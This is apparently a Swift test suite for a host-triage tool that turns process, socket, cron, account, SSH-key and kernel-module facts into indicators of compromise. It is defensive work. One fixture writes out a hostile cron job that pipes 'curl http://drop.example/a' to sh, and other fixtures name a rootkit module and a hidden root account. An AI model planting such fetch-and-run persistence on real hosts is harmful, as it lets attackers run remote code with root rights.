import CaseModel
import HostFacts
import JSONText
import Testing

@testable import Triage

@Suite struct FleetObserverTests {
  @Test func programsAreKeptWithTheirOwner() throws {
    let profile = FleetSketch("a", .process(FleetSketch.process(7, "/opt/x", digest: FleetSketch.implant))).profile()
    #expect(try #require(profile.entry(.digest, HostString(FleetSketch.bash))).isPackaged)
    let own = try #require(profile.entry(.digest, HostString(FleetSketch.implant)))
    #expect(!own.isPackaged)
    #expect(own.role == .running)
    #expect(own.evidence == Evidence(source: "/proc/7/exe", text: "/opt/x", exhibit: FleetSketch.implant))
  }

  @Test func aCopyOfAPackagesProgramStaysThePackages() throws {
    let copy = HostSketch.file("/tmp/sh", mode: 0o755) { $0.sha256 = FleetSketch.bash }
    let profile = FleetSketch("a", .file(copy)).profile()
    #expect(try #require(profile.entry(.digest, HostString(FleetSketch.bash))).isPackaged)
  }

  @Test func packagedFilesAreNoIndicatorsAndOthersAre() {
    let digest = String(repeating: "2", count: 64)
    let packaged = HostSketch.file("/usr/bin/x", mode: 0o755, package: "x") { $0.sha256 = digest }
    #expect(FleetSketch("a", .file(packaged)).profile().entry(.digest, HostString(digest)) == nil)
    let stray = HostSketch.file("/usr/bin/x", mode: 0o755) { $0.sha256 = digest }
    #expect(FleetSketch("a", .file(stray)).profile().entry(.digest, HostString(digest)) != nil)
    let text = HostSketch.file("/srv/readme") { $0.sha256 = digest }
    #expect(FleetSketch("a", .file(text)).profile().entry(.digest, HostString(digest)) == nil)
    let changed = HostSketch.file("/usr/bin/x", mode: 0o755, package: "x") {
      $0.sha256 = digest
      $0.packageState = .differs
    }
    let profile = FleetSketch("a", .file(changed)).profile()
    #expect(profile.entry(.changedFile, HostString("/usr/bin/x \(digest)")) != nil)
  }

  @Test func whoComesToAServedPortIsInboundAndWhoIsCalledIsOutbound() throws {
    let profile = FleetSketch(
      "a", .socket(FleetSketch.connection(to: "198.51.100.1", port: 50_000, from: 22, pid: 5)),
      .socket(FleetSketch.connection(to: FleetSketch.attacker, pid: 6))
    ).profile()
    #expect(try #require(profile.entry(.address, "198.51.100.1")).role == .inbound)
    #expect(try #require(profile.entry(.address, "203.0.113.77")).role == .outbound)
  }

  @Test(arguments: ["127.0.0.1", "0.0.0.0", "169.254.169.254", "::1", "fe80::1", "224.0.0.1", "not an address"])
  func addressesOfTheHostItselfAreNotKept(address: String) {
    let profile = FleetSketch("a", .socket(FleetSketch.connection(to: address, pid: 6))).profile()
    #expect(!profile.entries.contains { $0.indicator.kind == .address })
  }

  @Test func oneAddressIsOneValueHoweverItIsWritten() throws {
    let profile = FleetSketch(
      "a", .socket(FleetSketch.connection(to: "::ffff:203.0.113.77", pid: 6)),
      .socket(FleetSketch.connection(to: "203.0.113.77", from: 50_001, pid: 7))
    ).profile()
    #expect(profile.entries.count { $0.indicator.kind == .address } == 1)
    #expect(profile.entry(.address, "203.0.113.77") != nil)
  }

  @Test func persistenceGivesItsCommandItsTargetAndWhatTheyName() throws {
    var target = HostSketch.target("/opt/.d/x")
    target.digest = FleetSketch.implant
    let entry = HostSketch.entry(
      .cron, "/etc/cron.d/sync", "* * * * * root curl http://drop.example/a | sh",
      command: "curl http://drop.example/a http://203.0.113.9/b | sh", target: target)
    let profile = FleetSketch("a", .persistence(entry)).profile()
    #expect(profile.entry(.persistence, "cron sync: curl http://drop.example/a http://203.0.113.9/b | sh") != nil)
    #expect(profile.entry(.domain, "drop.example") != nil)
    #expect(profile.entry(.address, "203.0.113.9") != nil)
    #expect(try #require(profile.entry(.digest, HostString(FleetSketch.implant))).role == .persistence)
    let packaged = HostSketch.entry(.cron, "/etc/cron.d/man", command: "mandb", package: "man-db")
    #expect(!FleetSketch("a", .persistence(packaged)).profile().entries.contains { $0.indicator.kind == .persistence })
  }

  @Test func accountsThatCanLogInAndSecondRootsAreKept() {
    let profile = FleetSketch(
      "a", .account(HostSketch.account("toor", 0)), .account(HostSketch.account("deploy", 1001)),
      .account(HostSketch.account("root", 0)), .account(HostSketch.account("www", 33, shell: "/usr/sbin/nologin"))
    ).profile()
    #expect(
      profile.entries.filter { $0.indicator.kind == .account }.map(\.indicator.value)
        == ["deploy", "ec2-user", "toor (uid 0)"])
  }

  @Test func whatAFindingRestsOnIsMarked() throws {
    let sketch = FleetSketch(
      "a", .process(FleetSketch.process(4242, "/tmp/.x/kworker", digest: FleetSketch.implant)),
      .socket(FleetSketch.connection(to: FleetSketch.attacker, pid: 4242)), .sshKey(FleetSketch.key("SHA256:evil")),
      .sshKey(FleetSketch.key("SHA256:good")), .module(ModuleRecord(name: "diamorphine")))
    let profile = sketch.profile(
      .escalate, FleetSketch.finding(pid: 4242),
      FleetSketch.finding(
        "account.root-key", .medium, pid: nil, Evidence(source: "/elsewhere", text: "ssh-ed25519 SHA256:evil x")),
      FleetSketch.finding("kernel.hidden-module", .critical, pid: nil, Evidence(source: "kernel", text: "diamorphine")))
    #expect(profile.entry(.digest, HostString(FleetSketch.implant))?.finding == 0)
    #expect(profile.entry(.address, "203.0.113.77")?.finding == 0)
    #expect(profile.entry(.key, "SHA256:evil")?.finding == 1)
    #expect(profile.entry(.key, "SHA256:good")?.finding == nil)
    #expect(profile.entry(.module, "diamorphine")?.finding == 2)
    #expect(profile.entry(.module, "ext4")?.finding == nil)
    #expect(profile.entry(.digest, HostString(FleetSketch.bash))?.finding == nil)
  }

  @Test func thoseWhoComeToAServerAreNotPartOfItsFinding() {
    let sketch = FleetSketch("a", .socket(FleetSketch.connection(to: "198.51.100.1", port: 50_000, from: 22, pid: 5)))
    #expect(
      sketch.profile(.escalate, FleetSketch.finding(pid: 5)).entry(.address, "198.51.100.1")?.finding == nil)
    let named = FleetSketch.finding("log.x", .high, pid: nil, Evidence(source: "/var/log/x", text: "from 198.51.100.1"))
    #expect(sketch.profile(.escalate, named).entry(.address, "198.51.100.1")?.finding == 0)
  }

  @Test func anInterpreterIsNotWhatAFindingAboutItsScriptRestsOn() {
    func link(_ path: HostString) -> Int? {
      FleetSketch("a", .process(FleetSketch.process(7, path, digest: FleetSketch.implant)))
        .profile(.escalate, FleetSketch.finding(pid: 7)).entry(.digest, HostString(FleetSketch.implant))?.finding
    }
    #expect(link("/opt/python/bin/python3.11") == nil)
    #expect(link("/tmp/python3.11") == 0)
    #expect(link("/opt/tool/run") == 0)
  }

  @Test func aCrowdNeverKeepsOutWhatAFindingNames() {
    var sketch = FleetSketch("a")
    for index in 0..<5_000 {
      let file = HostSketch.file(HostString("/srv/\(index)"), mode: 0o755) {
        $0.sha256 = String(repeating: "0", count: 60) + String(index + 1_000)
      }
      sketch.facts.append(.file(file))
    }
    let profile = sketch.profile(
      .escalate,
      FleetSketch.finding(
        "file.x", .high, pid: nil, Evidence(source: "/zzz/implant", text: "", exhibit: FleetSketch.implant)))
    #expect(profile.entry(.digest, HostString(FleetSketch.implant))?.finding == 0)
    #expect(profile.entries.count < 2 * FleetObserver.entryLimit)
    let left = profile.omissions.first { $0.kind == .digest }?.count ?? 0
    #expect(left == 5_000 - FleetObserver.entryLimit)
  }

  @Test func longValuesAreCutAndStillDiffer() {
    let long = String(repeating: "x", count: 100_000)
    let one = HostSketch.entry(.cron, "/etc/cron.d/a", command: HostString("\(long)1"))
    let two = HostSketch.entry(.cron, "/etc/cron.d/a", command: HostString("\(long)2"))
    let profile = FleetSketch("a", .persistence(one), .persistence(two)).profile()
    let values = profile.entries.filter { $0.indicator.kind == .persistence }.map(\.indicator.value.text)
    #expect(values.count == 2)
    #expect(values.allSatisfy { $0.utf8.count <= FleetObserver.valueLimit })
  }

  @Test func aProfileSurvivesARoundTripAsJSON() throws {
    let profile = FleetSketch("a").profile(.watch, FleetSketch.finding(pid: 900))
    let copy = try JSONRecordDecoder.decode(FleetProfile.self, from: try JSONRecordEncoder.encode(profile))
    #expect(copy.entries == profile.entries)
    #expect(copy.findings == profile.findings)
    #expect(copy.sources == profile.sources)
    #expect(copy.host == profile.host)
  }
}
